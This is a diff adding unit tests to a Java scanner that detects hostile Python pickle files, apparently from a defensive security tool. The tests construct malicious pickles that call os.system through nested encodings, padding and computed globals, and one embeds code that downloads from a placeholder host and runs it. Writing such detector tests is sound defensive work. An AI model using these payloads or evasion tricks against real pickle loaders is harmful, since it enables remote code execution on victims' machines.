@@ -2,6 +2,7 @@ package dev.weir.scanner.core.pickle;
 
 import static dev.weir.scanner.core.Scans.rules;
 import static dev.weir.scanner.core.Scans.scan;
+import static java.nio.charset.StandardCharsets.ISO_8859_1;
 import static org.assertj.core.api.Assertions.assertThat;
 
 import dev.weir.scanner.core.ArtifactReport;
@@ -232,6 +233,46 @@ class HostilePickleTest {
     }
 
     @Test
+    void aPickleInBytesThatAreWrittenAsTextIsFollowed() {
+        String inner = new String(Pickles.osSystem(2), ISO_8859_1);
+        for (String tail : List.of("", "x".repeat(600))) {
+            byte[] outer = Pickles.protocol(2)
+                    .global("_codecs", "encode")
+                    .text(inner + tail)
+                    .text("latin1")
+                    .raw(0x86, 'R')
+                    .stop();
+
+            assertThat(rules(scan(outer))).containsExactly("pickle.nested-denied-global");
+        }
+    }
+
+    @Test
+    void aLongLineOfProtocolZeroIsFollowed() {
+        byte[] inner = Pickles.protocol(2)
+                .text("x".repeat(600))
+                .raw('0')
+                .bytes(Pickles.osSystem(2))
+                .toBytes();
+        String line = Base64.getEncoder().encodeToString(inner);
+
+        assertThat(rules(scan(Pickles.protocol(0).ascii("V" + line + "\n").stop())))
+                .containsExactly("pickle.nested-denied-global");
+        assertThat(rules(scan(Pickles.protocol(0).ascii("S'" + line + "'\n").stop())))
+                .containsExactly("pickle.nested-denied-global");
+    }
+
+    @Test
+    void anEncodedProgramThatRunsWhatItDownloadsIsMalicious() {
+        String code = "import urllib.request\nr = urllib.request.urlopen('http://acme.example')\nexec(r.read())\n";
+        byte[] pickle = Pickles.protocol(2)
+                .text(Base64.getEncoder().encodeToString(code.getBytes(ISO_8859_1)))
+                .stop();
+
+        assertThat(scan(pickle).verdict()).isEqualTo(Verdict.MALICIOUS);
+    }
+
+    @Test
     void unpicklingAPayloadIsDenied() {
         byte[] pickle = Pickles.protocol(3)
                 .global("pickle", "loads")
@@ -291,6 +332,19 @@ class HostilePickleTest {
                 Pickles.protocol(4).raw('N').shortText("system").raw(0x93).stop();
 
         assertThat(rules(scan(pickle))).containsExactly("pickle.unresolved-global");
+    }
+
+    @Test
+    void aGlobalNamedByWhatACallGaveIsMalicious() {
+        byte[] pickle = Pickles.protocol(4)
+                .stackGlobal("builtins", "str.lower")
+                .shortText("OS")
+                .raw(0x85, 'R')
+                .shortText("system")
+                .raw(0x93)
+                .stop();
+
+        assertThat(rules(scan(pickle))).containsExactly("pickle.computed-global");
     }
 
     @Test
